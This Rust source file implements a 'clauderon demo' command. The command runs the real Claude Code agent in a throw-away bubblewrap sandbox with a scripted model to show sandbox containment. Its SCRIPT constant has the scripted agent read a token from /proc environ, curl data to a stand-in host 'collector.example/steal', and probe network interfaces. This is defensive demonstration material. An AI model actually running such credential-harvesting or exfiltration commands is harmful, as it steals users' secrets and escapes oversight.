//! `clauderon demo`: one session from beginning to end, in a throw-away home on a throw-away
//! repository, with the real agent and a scripted model. No account, no engine, no network.

mod page;
mod report;
mod stage;

use std::process::ExitCode;
use std::time::Instant;

use clap::Args;
use clauderon_agents::installed;
use clauderon_api::{
    Agent, AuditQuery, AuditRow, Backend, Client, ConsoleEvent, ConsoleQuery, CreateSession, Error,
    ErrorCode, Mode, Session,
};
use clauderon_runtime::{Bubblewrap, Runtime as _};
use futures_util::StreamExt;

use super::image::installation;
use crate::context::Context;
use page::{Ink, Page};
use stage::Stage;

const EXAMPLES: &str = "\
Needs the installed Claude Code and bubblewrap; no account, no Docker, no network.
Leaves nothing behind; your own sessions and credentials are not touched.

Examples:
  clauderon demo
  NO_COLOR=1 clauderon demo";

/// What a person would have typed.
const TASK: &str =
    "Add a greeting and commit it. Then look for my token, and try to send something away.";

/// What the scripted model does: work, look for the token, try to get out, answer.
const SCRIPT: &str = r#"[
{"text":"I write the greeting and commit it.","tool":"Bash","input":{"command":"echo 'Hello from the sandbox' > greeting.txt; git add .; git commit -m 'Add a greeting'"}},
{"text":"Which token do I have?","tool":"Bash","input":{"command":"tr '\\0' '\\n' < /proc/$PPID/environ | grep TOKEN"}},
{"text":"Can I send something away?","tool":"Bash","input":{"command":"curl -sS -d hello https://collector.example/steal"}},
{"text":"Which network interfaces are there?","tool":"Bash","input":{"command":"grep -o '\\w*:' /proc/net/dev"}},
{"text":"The greeting is committed. My token is a placeholder, and nothing went anywhere else."}]"#;

/// How often the script is asked what it newly heard.
const LOOK: std::time::Duration = std::time::Duration::from_millis(50);

/// Show one session at work, with a scripted model and no account
#[derive(Debug, Args)]
#[command(after_help = EXAMPLES)]
pub struct Demo {}

impl Demo {
    /// Shows it, and clears it away however it ends.
    pub async fn run(self, context: &Context) -> anyhow::Result<ExitCode> {
        if installed(&context.home, Agent::Claude).is_none() {
            return Err(Error::failed(
                "The demo runs the real Claude Code, and it is not installed.",
            )
            .hint("`clauderon agents install claude` fetches it.")
            .into());
        }
        prove_bubblewrap(context).await?;
        let began = Instant::now();
        let page = Page::here();
        page.heading("A session, from beginning to end")?;
        page.text(
            Ink::Plain,
            "The agent is the real Claude Code. The model is scripted and runs here, so no account is needed.",
        )?;
        let stage = Stage::set(context).await?;
        let shown = tokio::select! {
            shown = show(&page, &stage) => shown.map(|()| ExitCode::SUCCESS),
            _ = tokio::signal::ctrl_c() => Ok(ExitCode::from(130)),
        };
        stage.strike().await;
        let code = shown?;
        if code == ExitCode::SUCCESS {
            let text = format!(
                "\nAll of that took {:.1} s and is gone again.",
                began.elapsed().as_secs_f64()
            );
            crate::output::line(&text)?;
        }
        Ok(code)
    }
}

/// Starts one empty sandbox, so that a machine that cannot is told before anything begins.
async fn prove_bubblewrap(context: &Context) -> anyhow::Result<()> {
    let probed = Bubblewrap::new(installation(context)).probe().await;
    probed.map(drop).map_err(|why| {
        Error::new(
            ErrorCode::NoRuntime,
            format!(
                "The demo needs bubblewrap sandboxes, and {}. Sessions of your own can run in Docker instead.",
                why.sentence
            ),
        )
        .hint(why.fix)
        .into()
    })
}

async fn show(page: &Page, stage: &Stage) -> anyhow::Result<()> {
    page.heading("Creating a session")?;
    let client = &stage.client;
    let created = client
        .create_session(&request(stage), |step| {
            // A closed standard output is noticed by the next line that must be written.
            let _ = page.text(Ink::Faint, step);
        })
        .await?;
    page.heading("The agent at work")?;
    page.labelled("  you     ", Ink::Plain, TASK)?;
    let rows = watch(page, stage, &created.session).await?;
    page.heading("What left the sandbox")?;
    report::left(page, &rows)?;
    page.heading("What was refused")?;
    let policy = client.policy(&created.session.id).await?;
    report::refused(page, &policy)?;
    page.heading("The token")?;
    report::token(page, stage)?;
    page.heading("Its work, as `clauderon diff` shows it")?;
    let diff = client.diff(&created.session.id).await?;
    report::patch(page, &diff.patch)?;
    page.heading("With your own token")?;
    report::own_token(page)?;
    Ok(())
}

fn request(stage: &Stage) -> CreateSession {
    CreateSession {
        name: Some("demo".to_owned()),
        repository: stage.repository.clone(),
        agent: Some(Agent::Claude),
        backend: Some(Backend::Bubblewrap),
        image: None,
        model: None,
        mode: Mode::Print,
        prompt: Some(format!("{TASK} SCRIPT:{SCRIPT}")),
        posture: None,
        cols: 0,
        rows: 0,
        budget: Some(clauderon_api::Cap::Lifted),
        isolate_history: false,
        credential_fingerprints: None,
    }
}

/// Shows each turn as it happens and returns the audit records.
async fn watch(page: &Page, stage: &Stage, session: &Session) -> anyhow::Result<Vec<AuditRow>> {
    let mut console = stage
        .client
        .console(&session.id, ConsoleQuery::default())
        .await?;
    let mut turns = report::Turns::default();
    let mut answer = Vec::new();
    let mut look = tokio::time::interval(LOOK);
    loop {
        tokio::select! {
            _ = look.tick() => {}
            event = console.next() => match event? {
                Some(ConsoleEvent::Output { bytes, .. }) => answer.extend_from_slice(&bytes),
                Some(ConsoleEvent::Exit(exit)) if exit.code == 0 => break,
                Some(ConsoleEvent::Exit(exit)) => {
                    let said = String::from_utf8_lossy(&answer);
                    return Err(Error::failed(format!("The agent ended with {}: {}", exit.code, said.trim())).into());
                }
                Some(ConsoleEvent::Size { .. }) => {}
                Some(ConsoleEvent::Error(error)) => return Err(error.into()),
                None => return Err(Error::failed("The daemon of the demo went away.").into()),
            },
        }
        turns.show(page, &stage.upstream.requests())?;
    }
    turns.show(page, &stage.upstream.requests())?;
    let answer = String::from_utf8_lossy(&answer);
    page.labelled(report::AGENT, Ink::Plain, answer.trim())?;
    all(&stage.client, session).await
}

async fn all(client: &Client, session: &Session) -> anyhow::Result<Vec<AuditRow>> {
    let query = AuditQuery {
        session: Some(session.id.clone()),
        n: Some(1000),
        follow: false,
    };
    let mut rows = Vec::new();
    let mut stream = client.audit(&query).await?;
    while let Some(row) = stream.next().await {
        rows.push(row?);
    }
    Ok(rows)
}
